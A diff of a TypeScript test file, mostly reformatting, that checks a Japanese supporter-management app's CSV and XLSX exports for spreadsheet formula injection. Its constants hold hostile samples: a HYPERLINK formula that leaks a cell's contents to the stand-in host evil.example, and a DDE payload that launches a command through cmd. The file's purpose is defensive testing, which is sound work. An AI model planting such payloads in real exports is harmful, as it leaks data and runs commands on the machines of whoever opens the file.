@@ -19,7 +19,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
 const PLUS = '+SUM(1,1)';
 const FULL_WIDTH = '＝ＳＵＭ(1,1)';
 const AT = '@SUM(1+1)';
-const MINUS = '-2+3+cmd|\' /C calc\'!A0';
+const MINUS = "-2+3+cmd|' /C calc'!A0";
 const PHONE = '+81 90-1234-5678';
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
@@ -44,7 +44,9 @@ describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (dr
     smtp = await startTestSmtp();
     t = await createTestApp(driver, { smtpUrl: smtp.url });
     // Anyone can plant a formula through the public sign-up.
-    const form = (await t.app.inject({ method: 'GET', url: '/api/public/registration-form' })).json() as { formToken: string };
+    const form = (await t.app.inject({ method: 'GET', url: '/api/public/registration-form' })).json() as {
+      formToken: string;
+    };
     const signUp = await t.app.inject({
       method: 'POST',
       url: '/api/public/registrations',
@@ -62,19 +64,33 @@ describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (dr
       },
     });
     expect(signUp.statusCode, signUp.body).toBe(202);
-    const mail: ParsedMail = await smtp.waitFor((m) => JSON.stringify(m.to ?? '').includes('formula.supporter@example.jp'));
+    const mail: ParsedMail = await smtp.waitFor((m) =>
+      JSON.stringify(m.to ?? '').includes('formula.supporter@example.jp'),
+    );
     const token = (mail.text ?? '').match(/\/register\/confirm\?token=([A-Za-z0-9_-]+)/)![1]!;
-    const confirmed = await t.app.inject({ method: 'POST', url: '/api/public/registrations/confirm', payload: { token } });
+    const confirmed = await t.app.inject({
+      method: 'POST',
+      url: '/api/public/registrations/confirm',
+      payload: { token },
+    });
     expect(confirmed.statusCode, confirmed.body).toBe(200);
     const cookie = confirmed.cookies.find((c) => c.name === 'kankei_supporter')!;
     supporterCookie = `kankei_supporter=${cookie.value}`;
-    signedUpId = (await t.app.inject({ method: 'GET', url: '/api/me', headers: { cookie: supporterCookie } })).json().person.id;
+    signedUpId = (await t.app.inject({ method: 'GET', url: '/api/me', headers: { cookie: supporterCookie } })).json()
+      .person.id;
 
     // Staff typing what a caller said can plant one too; a phone number written with +81 is text.
     const created = await t.admin.request({
       method: 'POST',
       url: '/api/people',
-      payload: personPayload({ name: AT, kana: 'アット', phone: PHONE, city: MINUS, birthYear: 1985, notes: "'引用符で始まるメモ" }),
+      payload: personPayload({
+        name: AT,
+        kana: 'アット',
+        phone: PHONE,
+        city: MINUS,
+        birthYear: 1985,
+        notes: "'引用符で始まるメモ",
+      }),
     });
     expect(created.statusCode, created.body).toBe(201);
     staffCreatedId = created.json().id;
@@ -111,11 +127,20 @@ describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (dr
     const records = readCsv(iconv.decode(res.rawPayload, 'cp932'));
     expectNoFormulaCell(records);
     expect(peopleRow(records, signedUpId)['氏名']).toBe(`'${HYPERLINK}`);
-    expect(peopleRow(records, staffCreatedId)).toMatchObject({ 氏名: `'${AT}`, 電話番号: `'${PHONE}`, 市区町村: `'${MINUS}`, 生年: '1985' });
+    expect(peopleRow(records, staffCreatedId)).toMatchObject({
+      氏名: `'${AT}`,
+      電話番号: `'${PHONE}`,
+      市区町村: `'${MINUS}`,
+      生年: '1985',
+    });
   });
 
   it('writes planted formulas in the supporter’s own CSV as text with one leading apostrophe', async () => {
-    const res = await t.app.inject({ method: 'GET', url: '/api/me/export?format=csv', headers: { cookie: supporterCookie } });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: '/api/me/export?format=csv',
+      headers: { cookie: supporterCookie },
+    });
     expect(res.statusCode).toBe(200);
     expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(res.rawPayload.toString('utf8')).toContain('\r\n');
@@ -134,20 +159,30 @@ describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (dr
     });
 
     it('writes a formula-like name in the analysis CSV as text, and counts as plain numbers', async () => {
-      const res = await t.admin.request({ method: 'GET', url: '/api/analytics/consultations?fy=2025&format=csv&table=municipalities' });
+      const res = await t.admin.request({
+        method: 'GET',
+        url: '/api/analytics/consultations?fy=2025&format=csv&table=municipalities',
+      });
       expect(res.statusCode, res.body).toBe(200);
       const records = readCsv(res.rawPayload.toString('utf8'));
       expectNoFormulaCell(records);
       expect(records).toContainEqual(['062014', `'${HYPERLINK}`, '0', '0', '0']);
 
-      const summary = await t.admin.request({ method: 'GET', url: '/api/analytics/consultations?fy=2025&format=csv&table=summary&municipality=062014' });
+      const summary = await t.admin.request({
+        method: 'GET',
+        url: '/api/analytics/consultations?fy=2025&format=csv&table=summary&municipality=062014',
+      });
       const summaryRecords = readCsv(summary.rawPayload.toString('utf8'));
       expectNoFormulaCell(summaryRecords);
       expect(summaryRecords).toContainEqual(['市町村', `'${HYPERLINK}（062014）`]);
     });
 
     it('writes a formula-like name in the analysis workbook as a text cell, never a formula', async () => {
-      const res = await t.admin.request({ method: 'GET', url: '/api/analytics/consultations?fy=2025&municipality=062014', headers: { accept: XLSX } });
+      const res = await t.admin.request({
+        method: 'GET',
+        url: '/api/analytics/consultations?fy=2025&municipality=062014',
+        headers: { accept: XLSX },
+      });
       expect(res.statusCode, res.body).toBe(200);
       const workbook = new ExcelJS.Workbook();
       await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
@@ -155,7 +190,9 @@ describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (dr
       workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
       expect(cells.length).toBeGreaterThan(20);
       expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).map((c) => c.address)).toEqual([]);
-      expect(cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value)).map((c) => c.value)).toEqual([]);
+      expect(
+        cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value)).map((c) => c.value),
+      ).toEqual([]);
 
       const summary = workbook.getWorksheet('概要')!;
       expect(summary.getCell('B4').type).toBe(ExcelJS.ValueType.String);
